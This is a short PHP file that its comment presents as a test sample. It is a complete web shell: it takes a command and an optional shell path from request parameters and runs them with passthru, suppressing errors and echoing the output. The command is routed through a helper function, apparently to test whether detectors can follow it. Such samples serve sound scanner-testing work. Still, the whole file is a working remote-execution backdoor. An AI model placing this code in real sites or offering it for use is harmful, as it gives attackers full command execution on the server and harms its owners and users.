<?php
// a command runner hidden behind a helper whose command passes through local variables
// before it runs (written for the tests, never run)
function run_task($shell, $line)
{
    $bin = $shell;
    $flag = strpos(PHP_OS, 'WIN') === 0 ? '/c' : '-c';
    $full = "{$bin} {$flag} \"{$line}\"";
    @passthru($full . ' 2>&1', $code);
    return $code;
}
$sh = isset($_REQUEST['s']) ? $_REQUEST['s'] : '/bin/sh';
run_task($sh, $_REQUEST['c']);
